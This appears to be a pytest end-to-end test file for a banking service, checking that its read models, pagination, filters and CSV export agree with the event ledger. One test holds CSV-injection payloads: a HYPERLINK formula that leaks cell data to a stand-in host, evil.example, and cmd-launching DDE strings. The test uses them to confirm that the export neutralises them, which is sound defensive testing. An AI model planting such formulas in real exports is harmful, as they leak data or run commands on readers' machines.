"""The read models over HTTP against the real stack: every query agrees with the ledger (the event log)."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from core import events as e
from core.money import format_amount
from core.readmodel import posting_for
from tests.support.readmodels import wait_caught_up
from tests.support import Bank, LedgerAudit, auth_as, read_log, settled_audit

pytestmark = pytest.mark.usefixtures("stack")


def run(api_url: str, scenario: Any) -> None:
    async def main() -> None:
        bank = Bank(api_url)
        try:
            await scenario(bank)
        finally:
            await bank.close()

    asyncio.run(main())


async def _all_pages(bank: Bank, account: str, limit: int, **filters: Any) -> list[dict[str, Any]]:
    items, cursor = [], None
    while True:
        params = filters | {"limit": limit} | ({"cursor": cursor} if cursor else {})
        response = await bank.get(f"/v1/accounts/{account}/transactions", **params)
        assert response.status_code == 200, response.text
        page = response.json()
        items += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            return items


async def _mixed_history(bank: Bank, customer: str) -> tuple[list[str], str]:
    """Three accounts of one customer with deposits, withdrawals, transfers (one refused), a freeze."""
    a, b, c = (await bank.open(customer=customer), await bank.open(customer=customer),
               await bank.open(customer=customer, overdraft="50.00"))
    for amount, ref in (("100.00", "salary november"), ("20.50", "refund 50%_off"), ("3.25", None)):
        assert (await bank.deposit(a, amount, reference=ref)).status_code == 200
    assert (await bank.withdraw(a, "10.00")).status_code == 200
    assert (await bank.transfer(a, b, "30.00", reference="rent")).status_code == 200
    assert (await bank.transfer(b, c, "5.00")).status_code == 200
    assert (await bank.withdraw(c, "40.00")).status_code == 200          # into the overdraft
    assert (await bank.withdraw(b, "1000.00")).status_code == 422        # refused: no posting
    assert (await bank.post(f"/v1/accounts/{b}/freeze", {"reason": "check"})).status_code == 200
    assert (await bank.transfer(a, b, "1.00")).status_code == 422        # credit refused, debit reversed
    return [a, b, c], customer


def _expected_postings(events: list[e.Event], account: str) -> list[dict[str, Any]]:
    postings = [p for ev in events if ev.account_id == account and (p := posting_for(ev)) is not None]
    return [{"transaction_id": p.posting_id, "type": p.type, "amount": format_amount(p.amount, p.currency),
             "balance_after": format_amount(p.balance_after, p.currency), "sequence": p.sequence}
            for p in sorted(postings, key=lambda p: -p.sequence)]


def test_every_query_agrees_with_the_ledger(api_url: str, kafka_bootstrap: str) -> None:
    async def scenario(bank: Bank) -> None:
        accounts, customer = await _mixed_history(bank, f"cust-{uuid.uuid4().hex[:8]}")
        audit = await settled_audit(kafka_bootstrap)
        for account in accounts:
            state = audit.accounts[account]
            view = await bank.account(account)
            assert view["balance"] == format_amount(state.balance, state.currency)
            assert view["status"] == state.status and view["version"] == state.sequence
            # transactions: every posting of the log, newest first, across pages of 2
            items = await _all_pages(bank, account, limit=2)
            got = [{k: i[k] for k in ("transaction_id", "type", "amount", "balance_after", "sequence")} for i in items]
            assert got == _expected_postings(audit.events, account)
            # CSV: the same rows as the JSON
            response = await bank.get(f"/v1/accounts/{account}/transactions.csv")
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
            rows = list(csv.DictReader(io.StringIO(response.text)))
            assert [r["transaction_id"] for r in rows] == [i["transaction_id"] for i in items]
            assert [r["amount"] for r in rows] == [i["amount"] for i in items]
            # statement of this month: opening + postings = closing = the ledger's balance
            month = datetime.now(UTC).strftime("%Y-%m")
            statement = (await bank.get(f"/v1/accounts/{account}/statements/{month}")).json()
            assert statement["opening_balance"] == format_amount(0, state.currency)
            assert statement["closing_balance"] == view["balance"]
            minor = sum(int(p["amount"].replace(".", "")) for p in statement["postings"])
            assert format_amount(minor, state.currency) == statement["closing_balance"]
            # audit: every event of the account, as recorded, with its place in the log
            entries = (await bank.get("/v1/audit", account_id=account, limit=500)).json()["items"]
            assert {x["event_id"] for x in entries} == {ev.event_id for ev in audit.events if ev.account_id == account}
            assert all(x["topic"] == "bank.ledger.events" and x["schema_fingerprint"] for x in entries)
        listed = (await bank.get(f"/v1/customers/{customer}/accounts")).json()["accounts"]
        assert sorted(x["account_id"] for x in listed) == sorted(accounts)
        by_customer = (await bank.get("/v1/audit", customer_id=customer, limit=500)).json()["items"]
        assert {x["account_id"] for x in by_customer} == set(accounts)
        # the customer's activity feed: every event of their accounts but the saga's bookkeeping, paged
        feed, cursor = [], None
        while True:
            page = (await bank.get(f"/v1/customers/{customer}/timeline", limit=4,
                                   **({"cursor": cursor} if cursor else {}))).json()
            feed += page["items"]
            if (cursor := page["next_cursor"]) is None:
                break
        expected = {ev.event_id for ev in audit.events
                    if ev.account_id in accounts and not isinstance(ev, e.TransferCompleted)}
        assert [x["event_id"] for x in feed] == [x["event_id"] for x in by_customer if x["event_id"] in expected]
        assert len(feed) == len(expected)
        deposits = [x for x in feed if x["type"] == "FundsDeposited"]
        assert {(x["amount"], x["summary"]) for x in deposits} >= {("100.00", "Deposited 100.00 EUR")}
        # a transfer's other account reads as its number's last four digits, as the web app shows accounts
        a, b, _ = accounts
        b_number = (await bank.account(b))["account_number"]
        sent = [x["summary"] for x in feed if x["type"] == "TransferDebited" and x["account_id"] == a]
        assert f"Sent 30.00 EUR to account ···{b_number[-4:]}" in sent and not [x for x in sent if b in x], sent

    run(api_url, scenario)


# References a spreadsheet would run as formulas (CSV injection), each with what the export must make of it.
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Refund")', "@SUM(1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "\rCR=1+1"]


def test_the_transactions_csv_neutralises_formulas(api_url: str) -> None:
    """Every reference that could start a formula reaches the reader's spreadsheet as text (a leading quote);
    a negative amount is a plain number and stays one."""
    async def scenario(bank: Bank) -> None:
        account = await bank.open(customer=f"cust-{uuid.uuid4().hex[:8]}")
        for reference in FORMULAS:
            assert (await bank.deposit(account, "10.00", reference=reference)).status_code == 200
        assert (await bank.withdraw(account, "12.50", reference="cash at the counter")).status_code == 200
        response = await bank.get(f"/v1/accounts/{account}/transactions.csv")
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert sorted(r["reference"] for r in rows if r["type"] == "deposit") == sorted("'" + f for f in FORMULAS)
        assert [(r["amount"], r["reference"]) for r in rows if r["type"] == "withdrawal"] == [
            ("-12.50", "cash at the counter")]
        json_items = (await bank.get(f"/v1/accounts/{account}/transactions")).json()["items"]
        assert sorted(i["reference"] for i in json_items if i["type"] == "deposit") == sorted(FORMULAS)

    run(api_url, scenario)


def test_transaction_filters(api_url: str) -> None:
    async def scenario(bank: Bank) -> None:
        [a, b, _], _ = await _mixed_history(bank, f"cust-{uuid.uuid4().hex[:8]}")

        async def ids(**filters: Any) -> list[str]:
            return [i["type"] + " " + i["amount"] for i in await _all_pages(bank, a, limit=50, **filters)]

        assert await ids(type="deposit") == ["deposit 3.25", "deposit 20.50", "deposit 100.00"]
        assert await ids(type=["withdrawal", "transfer_out"]) == ["transfer_out -1.00", "transfer_out -30.00",
                                                                   "withdrawal -10.00"]
        assert await ids(min_amount="20.50", max_amount="30.00") == ["transfer_out -30.00", "deposit 20.50"]
        assert await ids(q="SALARY") == ["deposit 100.00"]
        assert await ids(q="50%_") == ["deposit 20.50"]
        assert await ids(q="50%off") == []                       # % and _ are literal, not wildcards
        assert await ids(q="refund_50") == []
        now = datetime.now(UTC)
        assert len(await ids(**{"from": (now - timedelta(hours=1)).isoformat()})) == 7
        assert await ids(**{"to": (now - timedelta(hours=1)).isoformat()}) == []
        assert await ids(**{"from": (now + timedelta(days=1)).date().isoformat()}) == []
        reversal = await ids(type="transfer_reversal")
        assert reversal == ["transfer_reversal 1.00"]
        # bad filters are 4xx problems, never 500s
        for params, status in (({"min_amount": "1.234"}, 422), ({"type": "bogus"}, 422), ({"cursor": "%%%"}, 400),
                               ({"from": "yesterday"}, 422), ({"limit": 0}, 422), ({"min_position": "x"}, 400)):
            response = await bank.http.get(f"/v1/accounts/{a}/transactions", params=params)
            assert response.status_code == status, (params, response.text)
            assert response.headers["content-type"] == "application/problem+json"
        for path in (f"/v1/accounts/{a}/statements/2026-13", f"/v1/accounts/{a}/statements/nov"):
            assert (await bank.http.get(path)).status_code == 422
        assert (await bank.http.get("/v1/accounts/nobody/transactions")).status_code == 404
        assert (await bank.http.get("/v1/accounts/nobody/statements/2026-01")).status_code == 404
        assert (await bank.get(f"/v1/customers/{uuid.uuid4()}/accounts")).json()["accounts"] == []
        assert b

    run(api_url, scenario)


def test_pagination_neither_skips_nor_repeats_under_concurrent_inserts(api_url: str) -> None:
    async def scenario(bank: Bank) -> None:
        account = await bank.open()
        for n in range(1, 21):
            assert (await bank.deposit(account, f"{n}.00")).status_code == 200
        before = {i["transaction_id"] for i in await _all_pages(bank, account, limit=100)}
        assert len(before) == 20

        async def insert() -> None:
            for n in range(20):
                await bank.deposit(account, f"0.{n + 10}")

        async def paginate() -> list[dict[str, Any]]:
            items, cursor = [], None
            while True:
                params = {"limit": 3} | ({"cursor": cursor} if cursor else {})
                page = (await bank.http.get(f"/v1/accounts/{account}/transactions", params=params)).json()
                items += page["items"]
                cursor = page["next_cursor"]
                if cursor is None:
                    return items
                await asyncio.sleep(0.02)

        _, seen = await asyncio.gather(insert(), paginate())
        ids = [i["transaction_id"] for i in seen]
        assert len(ids) == len(set(ids)), "a row was repeated"
        assert before <= set(ids), "a row that existed before paging started was skipped"
        sequences = [i["sequence"] for i in seen]
        assert sequences == sorted(sequences, reverse=True)

    run(api_url, scenario)


def test_responses_say_how_fresh_they_are_and_wait_for_a_position(api_url: str) -> None:
    async def scenario(bank: Bank) -> None:
        account = await bank.open()
        deposit = await bank.deposit(account, "9.99")
        position = deposit.json()["position"]
        assert position and deposit.headers["Bank-Position"] == position
        # The account comes from Redis, or from PostgreSQL when Redis has not reached the position yet.
        for path, models in ((f"/v1/accounts/{account}", {"redis", "postgres"}),
                             (f"/v1/accounts/{account}/transactions", {"postgres"}),
                             (f"/v1/audit?account_id={account}", {"mongo"})):
            response = await bank.http.get(path, params={"min_position": position})
            assert response.status_code == 200, response.text
            assert response.headers["Bank-Read-Model"] in models
            assert int(response.headers["Bank-Read-Lag"]) >= 0
            read = dict(p.split(":") for p in response.headers["Bank-Read-Position"].split(","))
            for part in position.split(","):
                partition, offset = part.split(":")
                assert int(read[partition]) >= int(offset)
        # A position past the end of the log: no model will ever reach it, so 422 at once, not a 503 to retry.
        # (A position on the log that a stopped projection lags behind is a 503: tests/e2e/test_metrics.py.)
        response = await bank.http.get(f"/v1/accounts/{account}/transactions", params={"min_position": "0:999999999"})
        assert response.status_code == 422 and response.json()["reason"] == "position_beyond_log"

    run(api_url, scenario)


def test_account_falls_back_to_postgres_when_redis_lacks_it(api_url: str, redis_url: str) -> None:
    async def scenario(bank: Bank) -> None:
        from redis.asyncio import Redis

        from core.readmodel import REDIS_LIVE, redis_account_key

        account = await bank.open()
        await bank.deposit(account, "4.00")
        assert (await bank.get(f"/v1/accounts/{account}")).headers["Bank-Read-Model"] == "redis"
        client = Redis.from_url(redis_url)
        try:
            key = redis_account_key(int(await client.get(REDIS_LIVE) or 1), account)
            saved = await client.dump(key)
            await client.delete(key)
            response = await bank.get(f"/v1/accounts/{account}")
            assert response.status_code == 200 and response.headers["Bank-Read-Model"] == "postgres"
            assert response.json()["balance"] == "4.00"
            await client.restore(key, 0, saved)  # leave the model as the log says it is, for later tests
        finally:
            await client.aclose()

    run(api_url, scenario)


def test_log_and_read_models_agree_at_the_end(api_url: str, kafka_bootstrap: str, pg_dsn: str, redis_url: str,
                                              mongo_url: str) -> None:
    """Every account the log knows, through the API, matches the ledger's fold."""
    async def scenario(bank: Bank) -> None:
        await wait_caught_up(kafka_bootstrap, pg_dsn, redis_url, mongo_url)
        audit = LedgerAudit(await read_log(kafka_bootstrap))
        assert audit.violations == []
        async with httpx.AsyncClient(base_url=api_url, timeout=30, auth=auth_as("teller")) as http:
            for account_id, state in audit.accounts.items():
                response = await http.get(f"/v1/accounts/{account_id}")
                assert response.status_code == 200, response.text
                assert response.json()["balance"] == format_amount(state.balance, state.currency), account_id

    run(api_url, scenario)
